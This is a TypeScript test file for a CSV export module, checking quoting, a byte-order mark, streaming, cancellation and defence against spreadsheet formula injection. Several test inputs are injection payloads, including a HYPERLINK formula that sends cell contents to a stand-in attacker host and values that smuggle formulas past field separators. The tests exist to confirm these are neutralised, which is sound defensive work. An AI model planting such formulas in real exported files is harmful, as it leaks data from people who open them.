import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { z } from 'zod';
import { csvSeparators } from '#contract/fields.ts';
import { withFirstChunk } from '#server/http/pages/with-first-chunk.ts';
import { csvTable, csvText, unguardFormulas } from './csv.ts';

test('a table keeps commas, quotes, lines, moments and things with parts, with a mark for Excel', () => {
  const rows = [
    ['Kopi, "Susu"', -5, true, new Date('2026-01-02T03:04:05Z')],
    ['dua\nbaris', null, undefined, { a: [1] }],
  ];
  expect(csvText(['name', 'amount', 'active', 'more'], rows)).toBe(
    '\uFEFFname,amount,active,more\r\n' +
      '"Kopi, ""Susu""",-5,true,2026-01-02T03:04:05.000Z\r\n' +
      '"dua\nbaris",,,"{""a"":[1]}"\r\n',
  );
  expect(csvText(['a', 'b'], [])).toBe('\uFEFFa,b\r\n');
});

test('no text of a table is a formula, and a negative number is still a number', () => {
  for (const formula of ['=1+1', '+62', '-2', '@sum(a1)', '\t=1', '\r=1']) {
    expect(csvText(['a'], [[formula]])).toMatch(/^\uFEFFa\r\n"?'/);
  }
  expect(csvText(['a'], [['=HYPERLINK("http://jahat.example","klik")']])).toContain(
    '"\'=HYPERLINK(""http://jahat.example"",""klik"")"',
  );
  expect(csvText(['a'], [[-50_000]])).toContain('\r\n-50000\r\n');
});

test('no spreadsheet finds a formula, at whichever sign it splits the file', () => {
  const names = [
    'Sari;=HYPERLINK("http://jahat.example?x="&A1,"klik")',
    'Budi";"=1+1',
    "Ani;'\t@SUM(A1)",
    '\u200B=1+1',
    '\n=1+1',
    'a|+62',
    'a\t-1',
    '; \u00A0＝1+1',
  ];
  const text = csvText(
    ['a', 'b'],
    names.map((name) => [name, name]),
  ).slice(1);
  for (const cell of text.split(/[,;|\t\r\n]/)) {
    expect(cell.replace(/^["\s\u200B]+/, '')).not.toMatch(/^[=+\-@＝]/);
  }
});

test('what was written is read back as it was, whatever it says', async () => {
  const cell = fc.string({
    unit: fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...`;,|="'+-@\t\r\n `)),
  });
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.tuple(cell, cell), { maxLength: 20 }),
      fc.constantFrom(...csvSeparators),
      async (rows, separator) => {
        const text = await new Response(csvTable(['a', 'b'], inTurn(rows))(separator)).text();
        const delimiter = separator === 'comma' ? ',' : ';';
        const read = parse(text, { bom: true, record_delimiter: '\r\n', delimiter });
        expect(
          z
            .array(z.array(z.string()))
            .parse(read)
            .map((cells) => cells.map(unguardFormulas)),
        ).toEqual([['a', 'b'], ...rows]);
        return true;
      },
    ),
  );
});

test('a long table is streamed in chunks, and cancelling stops the rows', async () => {
  let read = 0;
  async function* endless() {
    for (;;) {
      read += 1;
      yield [read];
    }
  }
  const reader = csvTable(['n'], endless())('comma').getReader();
  await reader.read();
  await reader.read();
  await reader.cancel();
  expect(read).toBeLessThan(2000);
});

test('a table that can not be begun fails before its first byte, one that breaks off does not end as a whole one', async () => {
  async function* broken(after: number) {
    for (let n = 0; n < after; n += 1) yield [n];
    throw new Error('the database is gone');
  }
  await expect(withFirstChunk(csvTable(['n'], broken(0))('comma'))).rejects.toThrow('the database is gone');
  const begun = (await withFirstChunk(csvTable(['n'], broken(600))('comma'))).getReader();
  expect(new TextDecoder().decode((await begun.read()).value)).toMatch(/^n\r\n0\r\n/);
  await expect(begun.read()).rejects.toThrow('the database is gone');
  const whole = await withFirstChunk(csvTable(['n'], inTurn([[1], [2]]))('comma'));
  expect(await new Response(whole).text()).toBe('n\r\n1\r\n2\r\n');
});

async function* inTurn<Row>(rows: readonly Row[]) {
  for (const row of rows) yield row;
}
